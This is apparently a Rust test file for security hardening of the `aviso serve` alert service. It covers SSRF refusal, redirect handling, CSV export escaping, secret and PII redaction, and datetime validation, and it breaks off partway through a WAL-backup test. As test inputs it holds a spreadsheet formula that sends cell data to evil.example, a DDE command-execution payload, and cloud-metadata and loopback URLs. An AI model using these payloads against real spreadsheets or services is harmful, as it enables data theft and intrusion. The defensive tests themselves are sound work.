//! Hardening of `aviso serve` (issue 17, findings 7 to 9), each through the real service:
//! the `aviso serve` binary over 127.0.0.1 with its feed on a local server replaying
//! Freddy, webhook receivers and an SMS gateway as local servers, or the real router.
//!
//! - webhooks: no loopback, private or link-local target (written or resolved) unless
//!   the site allows it; no cross-host redirect, no Referer; the reply read up to a cap;
//!   a refusal recorded without the receiver's body;
//! - the subscriber CSV export escapes spreadsheet formulas, and imports back;
//! - secret query values of feed URLs are hidden in `/readyz` and the log;
//! - SMS delivery-report reasons keep no phone number or e-mail address;
//! - OGC items refuse a `datetime` that is not one;
//! - a live store copied with `sqlite3 .backup` keeps the versions still in its WAL.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a panic is the failure report

use crate::common;
use crate::notify_support;

use std::io::{Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use chrono::{TimeZone, Utc};
use serde_json::{Value, json};

use aviso::alerts::levels::Level;
use aviso::notify::channels::webhook::{SIGNATURE_HEADER, verify};
use aviso::notify::subscriber::{Area, Channel, Subscriber};
use aviso::store::notify::SubscriberStore;
use notify_support::{Api, HOOK_SECRET, feed, freddy};

pub(crate) const VIEWER: &str = "hardening-viewer-1f2";
pub(crate) const EDITOR: &str = "hardening-editor-3a4";
const INBOUND: &str = "hardening-gateway-5b6";

// --- the service ---------------------------------------------------------------------------------

/// A running `aviso serve`, killed when dropped; its stdout and stderr gathered.
pub(crate) struct Serve {
    child: Child,
    log: Arc<Mutex<String>>,
    pub(crate) api: Api,
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Serve {
    pub(crate) fn log(&self) -> String {
        self.log.lock().unwrap().clone()
    }

    /// The outbox as a viewer sees it.
    pub(crate) async fn outbox(&self) -> Vec<Value> {
        let (s, v) = self
            .api
            .get("/api/admin/outbox?limit=1000", Some(VIEWER))
            .await;
        assert_eq!(s, 200, "{v}");
        v["messages"].as_array().unwrap().clone()
    }

    /// Published versions (all statuses).
    pub(crate) async fn versions(&self) -> u64 {
        let t = self.api.text("/api/alerts?status=all").await;
        serde_json::from_str::<Value>(&t).unwrap()["matched"]
            .as_u64()
            .unwrap_or(0)
    }

    pub(crate) async fn wait_versions(&self, n: u64) {
        let t0 = Instant::now();
        while self.versions().await < n {
            assert!(
                t0.elapsed() < Duration::from_secs(120),
                "version {n} never published:\n{}",
                self.log()
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// `[service]`, one RSMC feed at `feed_url`, the tokens; `extra` is appended (notify
/// channels and whatever the test needs).
pub(crate) fn site_config(data: &Path, feed_url: &str, extra: &str) -> String {
    format!(
        r#"{publish_all}[service]
max_forecast_age_h = 1000000.0
listen = "127.0.0.1:0"
data_dir = "{data}"
layers = "{layers}"
[http]
retries = 0
connect_timeout_s = 2.0
timeout_s = 10.0
[probabilistic]
# issue 12's probabilistic step has its own test (probabilistic_service); in a debug
# build it costs seconds per version, which this test does not need
publish = false
[[feed]]
name = "rsmc"
kind = "rsmc-reunion"
url = "{feed_url}"
schedule = "*/1 * * * * *"
[[notify.token]]
name = "cenoe-ops"
role = "editor"
token_env = "AVISO_T_EDITOR"
[[notify.token]]
name = "iom-readonly"
role = "viewer"
token_env = "AVISO_T_VIEWER"
{extra}"#,
        publish_all = crate::common::PUBLISH_ALL,
        data = data.display(),
        layers = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("layers")
            .display(),
    )
}

/// Fast outbox settings: one attempt (a refusal is final at once), no rate limit.
pub(crate) const FAST_OUTBOX: &str = r#"[notify.outbox]
poll_interval_s = 0.1
max_attempts = 1
[notify.outbox.rate]
email = { per_second = 500.0, burst = 100 }
sms = { per_second = 500.0, burst = 100 }
webhook = { per_second = 500.0, burst = 100 }
"#;

/// Starts `aviso serve --config <dir>/site.toml` and waits for its address.
pub(crate) async fn start_serve(dir: &Path, config: &str) -> Serve {
    aviso::notify::channels::install_crypto_provider();
    let path = dir.join("site.toml");
    std::fs::write(&path, config).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_aviso"))
        .args(["serve", "--config"])
        .arg(&path)
        .env("AVISO_T_HOOK", HOOK_SECRET)
        .env("AVISO_T_INBOUND", INBOUND)
        .env("AVISO_T_EDITOR", EDITOR)
        .env("AVISO_T_VIEWER", VIEWER)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let log = Arc::new(Mutex::new(String::new()));
    for stream in [
        Box::new(child.stdout.take().unwrap()) as Box<dyn Read + Send>,
        Box::new(child.stderr.take().unwrap()),
    ] {
        let log = Arc::clone(&log);
        std::thread::spawn(move || {
            let mut stream = stream;
            let mut buf = [0u8; 4096];
            loop {
                match stream.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => log
                        .lock()
                        .unwrap()
                        .push_str(&String::from_utf8_lossy(&buf[..n])),
                }
            }
        });
    }
    let t0 = Instant::now();
    let addr = loop {
        let found = log
            .lock()
            .unwrap()
            .split("serving on http://")
            .nth(1)
            .and_then(|r| r.split('/').next())
            .map(str::to_string);
        if let Some(a) = found {
            break a;
        }
        if let Some(st) = child.try_wait().unwrap() {
            panic!("aviso serve exited ({st}):\n{}", log.lock().unwrap());
        }
        assert!(
            t0.elapsed() < Duration::from_secs(120),
            "aviso serve did not start:\n{}",
            log.lock().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    Serve {
        child,
        log,
        api: Api {
            base: format!("http://{addr}"),
            c: reqwest::Client::new(),
        },
    }
}

/// A local feed server; returns its base URL and the body it serves.
pub(crate) async fn feed_server() -> (String, Arc<Mutex<Vec<u8>>>) {
    let body: Arc<Mutex<Vec<u8>>> = Arc::default();
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", l.local_addr().unwrap());
    let app = Router::new()
        .route("/{*path}", get(feed))
        .with_state(Arc::clone(&body));
    tokio::spawn(async move { axum::serve(l, app).await });
    (base, body)
}

/// Freddy's issuance of 8 March 2023 00 UTC (Zambezia, MZ11, on the ladder), if the
/// shared data are there.
pub(crate) fn freddy_8_march() -> Option<Vec<u8>> {
    let all = freddy(Utc.with_ymd_and_hms(2023, 3, 8, 0, 0, 0).unwrap())?;
    let t = Utc.with_ymd_and_hms(2023, 3, 8, 0, 0, 0).unwrap();
    Some(all.into_iter().find(|(r, _)| *r == t)?.1)
}

pub(crate) fn row_of<'a>(outbox: &'a [Value], subscriber: &str) -> &'a Value {
    outbox
        .iter()
        .find(|m| m["subscriber_id"] == subscriber)
        .unwrap_or_else(|| panic!("no message to {subscriber} in {outbox:?}"))
}

// --- finding 7: webhooks ----------------------------------------------------------------------------

/// Every request a receiver got: (path, headers, body).
type Seen = Arc<Mutex<Vec<(String, HeaderMap, Bytes)>>>;

async fn record(
    State(seen): State<Seen>,
    uri: axum::http::Uri,
    h: HeaderMap,
    b: Bytes,
) -> Response {
    let path = uri.path().to_string();
    seen.lock().unwrap().push((path.clone(), h.clone(), b));
    match path.as_str() {
        // A receiver that fails and says too much about itself.
        "/hook/error" => (
            StatusCode::INTERNAL_SERVER_ERROR,
            "Traceback: psycopg2.OperationalError password=hunter2 host=10.9.8.7",
        )
            .into_response(),
        // A redirect to another host (localhost is not 127.0.0.1 as a host).
        "/hook/away" => {
            let host = h.get(header::HOST).unwrap().to_str().unwrap();
            let port = host.rsplit(':').next().unwrap();
            (
                StatusCode::TEMPORARY_REDIRECT,
                [(header::LOCATION, format!("http://localhost:{port}/steal"))],
            )
                .into_response()
        }
        // A redirect within the origin.
        "/hook/moved" => (
            StatusCode::PERMANENT_REDIRECT,
            [(header::LOCATION, "/hook/ok")],
        )
            .into_response(),
        _ => StatusCode::NO_CONTENT.into_response(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webhook_targets_inside_the_network_are_refused_when_written_and_when_resolved() {
    let Some(issuance) = freddy_8_march() else {
        return;
    };
    aviso::notify::channels::install_crypto_provider();
    let dir = tempfile::tempdir().unwrap();
    let seen: Seen = Arc::default();
    let recv = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = recv.local_addr().unwrap().port();
    let app = Router::new()
        .route("/{*path}", post(record))
        .with_state(Arc::clone(&seen));
    tokio::spawn(async move { axum::serve(recv, app).await });
    let (feed_base, feed_body) = feed_server().await;

    // A subscriber stored before this rule (or by hand), whose host name resolves to
    // 127.0.0.1: only the delivery-time check can stop it.
    let data = dir.path().join("data");
    {
        let store = aviso::store::sqlite::SqliteStore::open_dir(&data).unwrap();
        let legacy = Subscriber {
            id: "legacy-hook".into(),
            name: "Legacy receiver".into(),
            channels: vec![Channel::Webhook(format!(
                "http://localhost:{port}/hook/legacy"
            ))],
            areas: vec![Area::Province("MZ11".into())],
            min_level: Level::Green,
            ..Subscriber::default()
        };
        assert!(store.create_subscriber(&legacy, Utc::now()).unwrap());
    }
    // The default: allow_private_targets is not set.
    let cfg = site_config(
        &data,
        &format!("{feed_base}/rsmc/freddy.json"),
        &format!("[notify.webhook]\nenabled = true\nsecret_env = \"AVISO_T_HOOK\"\n{FAST_OUTBOX}"),
    );
    let svc = start_serve(dir.path(), &cfg).await;

    // Written through the admin API: each internal target is refused, naming the field.
    for (url, range) in [
        (format!("http://127.0.0.1:{port}/hook/a"), "loopback"),
        (format!("http://[::1]:{port}/hook/a"), "loopback"),
        ("http://10.20.30.40/hook".to_string(), "private"),
        ("http://192.168.1.1/hook".to_string(), "private"),
        (
            "http://169.254.169.254/latest/meta-data/".to_string(),
            "link-local",
        ),
        // 127.0.0.1 as a number: read as the HTTP client reads it.
        (format!("http://2130706433:{port}/hook/a"), "loopback"),
        (format!("http://localhost:{port}/hook/a"), "localhost"),
    ] {
        let (s, v) = svc
            .api
            .post_json(
                "/api/admin/subscribers",
                Some(EDITOR),
                &json!({"id": "aimed-inside", "name": "Inside", "webhooks": [url],
                        "provinces": ["MZ11"], "min_level": "green"}),
            )
            .await;
        assert_eq!(
            (s, v["field"].as_str()),
            (422, Some("webhooks[0]")),
            "{url}: {v}"
        );
        let d = v["description"].as_str().unwrap();
        assert!(
            d.contains(range) && d.contains("allow_private_targets"),
            "{url}: {d}"
        );
    }
    // And by CSV import, naming the line.
    let csv = format!(
        "id,name,emails,webhooks,provinces\nfine,Fine,fine@ingd.example.org,,MZ11\ninside,Inside,,http://127.0.0.1:{port}/hook/b,MZ11\n"
    );
    let (s, v, _) = svc
        .api
        .send(
            reqwest::Method::POST,
            "/api/admin/subscribers.csv",
            Some(EDITOR),
            Some("text/csv"),
            csv,
        )
        .await;
    assert_eq!(
        (s, v["field"].as_str(), v["line"].as_u64()),
        (422, Some("webhooks[0]"), Some(3)),
        "{v}"
    );
    let (_, list) = svc.api.get("/api/admin/subscribers", Some(VIEWER)).await;
    assert_eq!(list["count"], 1, "only the legacy subscriber: {list}");

    // At delivery, the legacy host name resolves to 127.0.0.1: refused, nothing sent.
    *feed_body.lock().unwrap() = issuance;
    svc.wait_versions(1).await;
    svc.api.settled().await;
    let outbox = svc.outbox().await;
    let row = row_of(&outbox, "legacy-hook");
    let err = row["last_error"].as_str().unwrap_or_default();
    eprintln!("legacy webhook: {err}");
    assert_eq!(row["state"], "failed", "{row}");
    assert!(
        err.contains("refused") && err.contains("loopback") && err.contains("localhost"),
        "{err}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "the receiver on 127.0.0.1 was reached"
    );
}

/// A receiver on a raw socket answering 200 with a 200 MB body; counts the bytes it
/// managed to write before the client hung up.
async fn huge_receiver() -> (u16, Arc<AtomicU64>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let written = Arc::new(AtomicU64::new(0));
    let w = Arc::clone(&written);
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut conn) = conn else { continue };
            let w = Arc::clone(&w);
            std::thread::spawn(move || {
                // The request: headers, then Content-Length bytes of body.
                let mut req = Vec::new();
                let mut buf = [0u8; 8192];
                let body_end = loop {
                    let Ok(n) = conn.read(&mut buf) else { return };
                    if n == 0 {
                        return;
                    }
                    req.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&req).to_string();
                    if let Some(h) = text.find("\r\n\r\n") {
                        let len = text[..h]
                            .lines()
                            .find_map(|l| {
                                let (k, v) = l.split_once(':')?;
                                k.eq_ignore_ascii_case("content-length")
                                    .then(|| v.trim().parse::<usize>().ok())?
                            })
                            .unwrap_or(0);
                        break h + 4 + len;
                    }
                };
                while req.len() < body_end {
                    let Ok(n) = conn.read(&mut buf) else { return };
                    if n == 0 {
                        return;
                    }
                    req.extend_from_slice(&buf[..n]);
                }
                const TOTAL: u64 = 200 * 1024 * 1024;
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {TOTAL}\r\n\r\n"
                );
                if conn.write_all(head.as_bytes()).is_err() {
                    return;
                }
                let chunk = vec![b'x'; 64 * 1024];
                let mut sent = 0u64;
                while sent < TOTAL {
                    if conn.write_all(&chunk).is_err() {
                        return;
                    }
                    sent += chunk.len() as u64;
                    w.fetch_add(chunk.len() as u64, Ordering::SeqCst);
                }
            });
        }
    });
    (port, written)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webhooks_follow_no_redirect_elsewhere_send_no_referer_cap_the_reply_and_keep_no_reply_body()
 {
    let Some(issuance) = freddy_8_march() else {
        return;
    };
    aviso::notify::channels::install_crypto_provider();
    let dir = tempfile::tempdir().unwrap();
    let seen: Seen = Arc::default();
    let recv = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", recv.local_addr().unwrap());
    let app = Router::new()
        .route("/{*path}", post(record))
        .with_state(Arc::clone(&seen));
    tokio::spawn(async move { axum::serve(recv, app).await });
    let (huge_port, huge_written) = huge_receiver().await;
    let (feed_base, feed_body) = feed_server().await;

    // The receivers are local: this site allows private targets.
    let cfg = site_config(
        &dir.path().join("data"),
        &format!("{feed_base}/rsmc/freddy.json"),
        &format!(
            "[notify.webhook]\nenabled = true\nsecret_env = \"AVISO_T_HOOK\"\nallow_private_targets = true\n{FAST_OUTBOX}"
        ),
    );
    let svc = start_serve(dir.path(), &cfg).await;
    for (id, url) in [
        ("hook-error", format!("{base}/hook/error")),
        ("hook-away", format!("{base}/hook/away")),
        ("hook-moved", format!("{base}/hook/moved")),
        ("hook-huge", format!("http://127.0.0.1:{huge_port}/hook")),
    ] {
        let (s, v) = svc
            .api
            .post_json(
                "/api/admin/subscribers",
                Some(EDITOR),
                &json!({"id": id, "name": id, "webhooks": [url], "provinces": ["MZ11"],
                        "min_level": "green"}),
            )
            .await;
        assert_eq!(s, 201, "{id}: {v}");
    }
    *feed_body.lock().unwrap() = issuance;
    svc.wait_versions(1).await;
    svc.api.settled().await;
    let outbox = svc.outbox().await;
    let seen = seen.lock().unwrap().clone();
    let paths: Vec<&str> = seen.iter().map(|(p, _, _)| p.as_str()).collect();

    // Each property is checked and reported on its own (one run shows them all).
    let mut failed: Vec<String> = Vec::new();
    let mut check = |ok: bool, what: String| {
        if !ok {
            failed.push(what);
        }
    };
    // A refusal keeps its status and reason phrase, not what the receiver wrote.
    let row = row_of(&outbox, "hook-error");
    let err = row["last_error"].as_str().unwrap_or_default();
    check(row["state"] == "failed", format!("hook-error: {row}"));
    check(
        err.contains("HTTP 500 Internal Server Error"),
        format!("hook-error's status and reason: {err}"),
    );
    for leak in ["Traceback", "hunter2", "10.9.8.7", "psycopg2"] {
        check(!err.contains(leak), format!("{leak} kept in {err}"));
    }
    // A 307 to another host is not followed: the body and its signature stay home.
    check(
        !paths.contains(&"/steal"),
        format!("followed to another host: {paths:?}"),
    );
    let row = row_of(&outbox, "hook-away");
    let err = row["last_error"].as_str().unwrap_or_default();
    check(
        row["state"] == "failed" && err.contains("HTTP 307"),
        format!("hook-away: {row}"),
    );
    // A redirect within the origin is followed, signed, and carries no Referer.
    check(
        row_of(&outbox, "hook-moved")["state"] == "delivered",
        format!("hook-moved: {}", row_of(&outbox, "hook-moved")),
    );
    match seen.iter().find(|(p, _, _)| p == "/hook/ok") {
        Some((_, h, b)) => {
            check(
                h.get(header::REFERER).is_none(),
                format!("Referer sent: {:?}", h.get(header::REFERER)),
            );
            let sig = h
                .get(SIGNATURE_HEADER)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default();
            check(
                verify(HOOK_SECRET.as_bytes(), b, sig),
                "the redirected request is not signed".into(),
            );
        }
        None => check(
            false,
            format!("the same-origin redirect was not followed: {paths:?}"),
        ),
    }
    // A 200 MB reply is not read whole: the receiver could write little of it before
    // aviso hung up (the cap plus what the sockets' buffers hold), and it counts as taken.
    check(
        row_of(&outbox, "hook-huge")["state"] == "delivered",
        format!("hook-huge: {}", row_of(&outbox, "hook-huge")),
    );
    let written = huge_written.load(Ordering::SeqCst);
    check(
        written < 32 * 1024 * 1024,
        format!("the receiver wrote {written} bytes of its 200 MB reply"),
    );
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    eprintln!(
        "webhooks: paths {paths:?}; huge reply cut after {} kB written",
        written / 1024
    );
}

// --- finding 8: the CSV export, feed URLs, delivery reports, OGC datetime ------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_subscriber_export_escapes_formulas_and_imports_back_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let (feed_base, _) = feed_server().await;
    let cfg = site_config(
        &dir.path().join("data"),
        &format!("{feed_base}/rsmc/none.json"),
        "",
    );
    let svc = start_serve(dir.path(), &cfg).await;
    let people = [
        json!({"id": "formula-link", "name": "=HYPERLINK(\"http://evil.example/x?d=\"&A1,\"Beira\")",
               "phones": ["+258845550101"], "provinces": ["MZ09"]}),
        json!({"id": "formula-at", "name": "@SUM(1+1)*cmd|' /C calc'!A0",
               "emails": ["-ops@ingd.example.org"], "phones": ["+258845550102", "+258845550103"],
               "provinces": ["MZ11"]}),
        json!({"id": "formula-minus", "name": "-2+3", "emails": ["pf@ingd.example.org"],
               "districts": ["MZ1103"]}),
    ];
    for p in &people {
        let (s, v) = svc
            .api
            .post_json("/api/admin/subscribers", Some(EDITOR), p)
            .await;
        assert_eq!(s, 201, "{v}");
    }
    let (s, export) = svc
        .api
        .get("/api/admin/subscribers.csv", Some(VIEWER))
        .await;
    assert_eq!(s, 200);
    let export = export.as_str().unwrap().to_string();
    // Read back as a spreadsheet would split it: no cell may start a formula.
    let mut rdr = csv::Reader::from_reader(export.as_bytes());
    let headers = rdr.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell {cell:?} in\n{export}"
            );
        }
    }
    let row = |id: &str| rows.iter().find(|r| &r[col("id")] == id).unwrap();
    assert_eq!(
        &row("formula-link")[col("name")],
        "'=HYPERLINK(\"http://evil.example/x?d=\"&A1,\"Beira\")"
    );
    assert_eq!(&row("formula-link")[col("phones")], "'+258845550101");
    assert_eq!(
        &row("formula-at")[col("phones")],
        "'+258845550102;+258845550103"
    );
    assert_eq!(&row("formula-at")[col("emails")], "'-ops@ingd.example.org");
    assert_eq!(&row("formula-minus")[col("name")], "'-2+3");

    // The export imports back: every subscriber as it was, numbers in E.164.
    let (s, v, _) = svc
        .api
        .send(
            reqwest::Method::POST,
            "/api/admin/subscribers.csv",
            Some(EDITOR),
            Some("text/csv"),
            export.clone(),
        )
        .await;
    assert_eq!((s, v["updated"].as_u64()), (200, Some(3)), "{v}");
    for p in &people {
        let id = p["id"].as_str().unwrap();
        let (s, v) = svc
            .api
            .get(&format!("/api/admin/subscribers/{id}"), Some(VIEWER))
            .await;
        assert_eq!(s, 200, "{v}");
        let got = &v;
        assert_eq!(got["name"], p["name"], "{id}");
        for k in ["phones", "emails"] {
            if let Some(want) = p.get(k) {
                assert_eq!(&got[k], want, "{id} {k}");
            }
        }
    }
    let (_, again) = svc
        .api
        .get("/api/admin/subscribers.csv", Some(VIEWER))
        .await;
    assert_eq!(
        again.as_str().unwrap(),
        export,
        "export, import, export: the same file"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_feed_urls_secret_query_values_stay_out_of_readyz_and_the_log() {
    let dir = tempfile::tempdir().unwrap();
    // A feed that refuses connections, with its key in the query (as Azure Functions'
    // ?code= and many data portals do).
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let feed_url =
        format!("http://127.0.0.1:{port}/api/rsmc?code=SECRETCODE42&basin=SWI&apikey=K3Y99");
    let cfg = site_config(&dir.path().join("data"), &feed_url, "");
    let svc = start_serve(dir.path(), &cfg).await;
    let t0 = Instant::now();
    let ready = loop {
        let t = svc.api.text("/readyz").await;
        let v: Value = serde_json::from_str(&t).unwrap();
        if v["feeds"][0]["last_error"].is_string() && svc.log().contains("degraded") {
            break t;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(120),
            "no feed error: {t}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let log = svc.log();
    for (what, text) in [("/readyz", &ready), ("the log", &log)] {
        for secret in ["SECRETCODE42", "K3Y99"] {
            assert!(!text.contains(secret), "{secret} in {what}:\n{text}");
        }
        // The URL is shown, with its harmless parameters.
        assert!(
            text.contains("code=REDACTED&basin=SWI&apikey=REDACTED"),
            "{what}:\n{text}"
        );
    }

    // The list is configurable, and a URL in a configuration error is redacted too.
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        format!(
            r#"[service]
max_forecast_age_h = 1000000.0
listen = "127.0.0.1:0"
data_dir = "{}"
[http]
secret_query_params = ["ticket"]
[probabilistic]
publish = false
[[feed]]
name = "tracks"
kind = "rsmc-reunion"
url = "http://127.0.0.1:{port}/{{name}}.json?ticket=T1CK3T&code=visible"
schedule = "0 0 * * * *"
"#,
            dir.path().join("data2").display()
        ),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_aviso"))
        .args(["serve", "--config"])
        .arg(&bad)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("per-storm template"), "{err}");
    assert!(
        !err.contains("T1CK3T") && err.contains("ticket=REDACTED&code=visible"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_delivery_reports_reason_keeps_no_number_or_address_however_written() {
    let Some(issuance) = freddy_8_march() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let got: notify_support::Shared = Arc::default();
    let recv = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let recv_base = format!("http://{}", recv.local_addr().unwrap());
    let app = Router::new()
        .route("/sms", post(notify_support::gateway))
        .with_state(Arc::clone(&got));
    tokio::spawn(async move { axum::serve(recv, app).await });
    let (feed_base, feed_body) = feed_server().await;
    let cfg = site_config(
        &dir.path().join("data"),
        &format!("{feed_base}/rsmc/freddy.json"),
        &format!(
            r#"[notify.sms]
enabled = true
url = "{recv_base}/sms"
status_path = "status"
id_path = "id"
accepted_statuses = ["accepted"]
dlr_enabled = true
[notify.inbound]
secret_env = "AVISO_T_INBOUND"
{FAST_OUTBOX}"#
        ),
    );
    let svc = start_serve(dir.path(), &cfg).await;
    let (s, v) = svc
        .api
        .post_json(
            "/api/admin/subscribers",
            Some(EDITOR),
            &json!({"id": "pf-dlr", "name": "Ponto focal", "phones": ["+258845550101"],
                    "provinces": ["MZ11"], "min_level": "green"}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    *feed_body.lock().unwrap() = issuance;
    svc.wait_versions(1).await;
    svc.api.settled().await;
    assert_eq!(got.lock().unwrap().sms.len(), 1, "the SMS went out");

    // The gateway's reason quotes the number in national forms, and an address.
    let reason =
        "Subscriber 84 555 0101 absent (0845550101); escalated to ana.silva@ingd.example.org";
    let body: String = [
        ("id", "sms-0"),
        ("status", "undelivered"),
        ("reason", reason),
    ]
    .iter()
    .map(|(k, v)| {
        let enc: String = v
            .bytes()
            .map(|b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect();
        format!("{k}={enc}")
    })
    .collect::<Vec<_>>()
    .join("&");
    let (s, v) = svc
        .api
        .post_form(&format!("/api/sms/dlr?token={INBOUND}"), &body)
        .await;
    assert_eq!(s, 200, "{v}");
    let outbox = svc.outbox().await;
    let report = &row_of(&outbox, "pf-dlr")["delivery_report"];
    assert_eq!(report["state"], "undelivered", "{report}");
    let recorded = report["reason"].as_str().unwrap();
    assert!(
        recorded.contains("absent") && recorded.contains("@ingd.example.org"),
        "{recorded}"
    );
    for (what, text) in [("the outbox", recorded.to_string()), ("the log", svc.log())] {
        for clear in ["555 0101", "5550101", "ana.silva"] {
            assert!(!text.contains(clear), "{clear} in {what}: {text}");
        }
    }
}

#[test]
fn ogc_items_refuse_a_datetime_that_is_not_one_and_name_the_parameter() {
    use tower::ServiceExt;
    let Some((_cfg, indexed, _)) = common::freddy_on_shipped_layers() else {
        return;
    };
    let state = Arc::new(aviso::api::ApiState::new(
        &indexed.layers,
        Some("http://aviso.test".into()),
    ));
    let rt = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    let get = |q: &str| -> (StatusCode, Value) {
        rt.block_on(async {
            let req = axum::http::Request::get(format!(
                "/collections/districts/items?limit=1&datetime={q}"
            ))
            .body(axum::body::Body::empty())
            .unwrap();
            let resp = aviso::api::router(state.clone())
                .oneshot(req)
                .await
                .unwrap();
            let status = resp.status();
            let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
                .await
                .unwrap();
            (
                status,
                serde_json::from_slice(&bytes).unwrap_or(Value::Null),
            )
        })
    };
    for bad in [
        "notadate",
        "2023-13-01T00:00:00Z",
        "2023-03-08T00:00:00",
        "2023-03-10T00:00:00Z/2023-03-08T00:00:00Z",
        "../..",
        "2023-03-08T00:00:00Z/soon",
    ] {
        let (s, v) = get(bad);
        assert_eq!(s, StatusCode::BAD_REQUEST, "{bad}: {v}");
        assert_eq!(v["code"], "InvalidParameterValue", "{bad}: {v}");
        assert!(
            v["description"].as_str().unwrap().contains("datetime"),
            "{bad}: {v}"
        );
    }
    for good in [
        "2023-03-08T00:00:00Z",
        "2023-03-08T06:00:00%2B02:00",
        "2023-03-08T00:00:00Z/2023-03-10T00:00:00Z",
        "2023-03-08T00:00:00Z/..",
        "../2023-03-10T00:00:00Z",
        "/2023-03-10T00:00:00Z",
        "2023-03-08",
    ] {
        let (s, v) = get(good);
        assert_eq!(s, StatusCode::OK, "{good}: {v}");
        assert_eq!(v["features"].as_array().unwrap().len(), 1, "{good}");
    }
}

// --- finding 9: a backup of the live store ------------------------------------------------------------

/// (event id, version) of every alert version in the store file at `path`, read through
/// SQLite (which reads a `-wal` beside it, if any); none when even the table is missing.
fn versions_in(path: &Path) -> Vec<(String, i64)> {
    let c = rusqlite::Connection::open(path).unwrap();
    let tables: i64 = c
        .query_row(
            "SELECT COUNT(*) FROM sqlite_master WHERE type = 'table' AND name = 'alerts'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    if tables == 0 {
        return Vec::new();
    }
    let mut st = c
        .prepare("SELECT event_id, version FROM alerts ORDER BY event_id, version")
        .unwrap();
    st.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_live_store_backed_up_with_sqlite3_keeps_the_versions_still_in_its_wal() {
    let sqlite3_ok = Command::new("sqlite3")
        .arg("-version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !sqlite3_ok {
        notify_support::require("the sqlite3 command-line shell (apt-get install sqlite3)");
        return;
    }
    let Some(all) = freddy(Utc.with_ymd_and_hms(2023, 3, 8, 0, 0, 0).unwrap()) else {
        return;
    };
    let at = |d: u32, h: u32| {
        let t = Utc.with_ymd_and_hms(2023, 3, d, h, 0, 0).unwrap();
        all.iter().find(|(r, _)| *r == t).unwrap().1.clone()
    };
    let dir = tempfile::tempdir().unwrap();
    let (feed_base, feed_body) = feed_server().await;
    let data = dir.path().join("data");
    let cfg = site_config(&data, &format!("{feed_base}/rsmc/freddy.json"), "");
    let svc = start_serve(dir.path(), &cfg).await;
    let db = data.join("aviso.sqlite");

    // A long reader (as an API request, or an operator's sqlite3 session, can be) holds
    // its snapshot from before the first version: no checkpoint can move a later page
    // into aviso.sqlite, so every version stays in aviso.sqlite-wal only.
    let reader = rusqlite::Connection::open(&db).unwrap();
    reader.execute_batch("BEGIN").unwrap();
    let before: i64 = reader
        .query_row("SELECT COUNT(*) FROM alerts", [], |r| r.get(0))
        .unwrap();
    assert_eq!(before, 0);

    *feed_body.lock().unwrap() = at(8, 0);
    svc.wait_versions(1).await;
    *feed_body.lock().unwrap() = at(9, 0);
    svc.wait_versions(2).await;
    let live = versions_in(&db);
    assert!(live.len() >= 2, "{live:?}");
    let wal = std::fs::metadata(data.join("aviso.sqlite-wal"))
        .unwrap()
        .len();
    assert!(wal > 0, "the WAL is empty");

